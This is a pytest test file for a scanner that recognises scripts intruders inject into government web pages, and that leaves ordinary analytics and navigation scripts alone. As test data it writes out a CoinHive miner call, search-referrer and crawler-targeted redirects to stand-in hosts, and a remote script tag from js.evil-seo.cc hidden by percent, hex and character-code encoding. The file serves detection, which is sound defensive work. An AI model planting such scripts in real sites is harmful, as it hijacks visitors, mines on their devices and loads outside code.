"""Scripts that intruders leave, and the many odd ones that belong there."""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest

from govsight.probe.know.injected import decoded, script_sign

HOST = "www.qinglan.gov.cn"
TAG = '<script src="http://js.evil-seo.cc/a.js"></script>'
AS_PERCENT = "".join(f"%{ord(letter):02x}" for letter in TAG)
AS_HEX = "".join(f"\\x{ord(letter):02x}" for letter in TAG)
AS_CODES = ",".join(str(ord(letter)) for letter in TAG)


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        ("var miner = new CoinHive.Anonymous('key'); miner.start();", "miner"),
        ("if(document.referrer.indexOf('baidu')>0){window.location.href='http://www.pj88.com/';}", "redirect"),
        ("var r=document.referrer;if(/sogou|so\\.com/.test(r)){location.replace('//tz.evil.vip/x')}", "redirect"),
        (
            "if(/baiduspider/i.test(navigator.userAgent)){document.write('<script src=http://a.evil.vip/j.js>')}",
            "redirect",
        ),
        (f"document.write(unescape('{AS_PERCENT}'));", "obfuscated"),
        (f'window["document"]["write"]("{AS_HEX}");', "obfuscated"),
        (f"eval(String.fromCharCode({AS_CODES}));", "obfuscated"),
    ],
)
def test_an_intruders_script_is_recognised(script: str, kind: str) -> None:
    sign = script_sign(script, HOST)
    assert sign is not None
    assert (sign.kind, sign.strong) == (kind, True)


@pytest.mark.parametrize(
    "script",
    [
        "",
        "$(function(){ $('.tab').hide(); });",
        'document.write(unescape("%3Cscript src=\'" + p + "hm.baidu.com/h.js%3F1\'%3E%3C/script%3E"));',
        "var r=document.referrer;document.write('<script src=http://c.tongji-co.com/?r='+r+'></'+'script>');"
        + "var baidu=1;".rjust(400),
        f"document.write(unescape('{quote(TAG.replace('js.evil-seo.cc', 'hm.baidu.com'), safe='')}'))",
        "if(/iphone|android/i.test(navigator.userAgent)){location.href='http://m.qinglan.gov.cn/';}",
        "if(document.referrer==''){location.href='/index.html'}",
        "var url='https://www.baidu.com/s?wd='+w; window.open(url);",
        "if (document.referrer.indexOf('baidu')>0) { location.href='/ssjg.html?q='+q }",
        "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?1'})();",
        "var s='\\u9996\\u9875\\u653f\\u52a1\\u516c\\u5f00\\u9996\\u9875\\u653f\\u52a1\\u516c\\u5f00';",
        "eval(function(p,a,c,k,e,d){return p}('1 2',2,2,'a|b'.split('|')))",
    ],
)
def test_ordinary_scripts_are_left_in_peace(script: str) -> None:
    assert script_sign(script, HOST) is None


def test_a_block_that_a_script_hides_is_a_suspicion_only() -> None:
    sign = script_sign("document.write('<div style=\"position:absolute;left:-5000px\">');", HOST)
    assert sign is not None
    assert (sign.kind, sign.strong) == ("hides", False)


def test_every_way_of_masking_is_undone() -> None:
    for masked in (f"'{AS_PERCENT}'", f"'{AS_HEX}'", f"fromCharCode({AS_CODES})"):
        assert TAG in decoded(masked)


def test_a_script_made_to_tire_us_costs_little() -> None:
    started = time.process_time()
    for text in (
        "%41" * 100_000,
        "\\x41" * 100_000,
        "fromCharCode(" + "1," * 100_000,
        "//a." * 100_000,
        "document.write('<div " * 9_000,
    ):
        script_sign(text, HOST)
    assert time.process_time() - started < 2
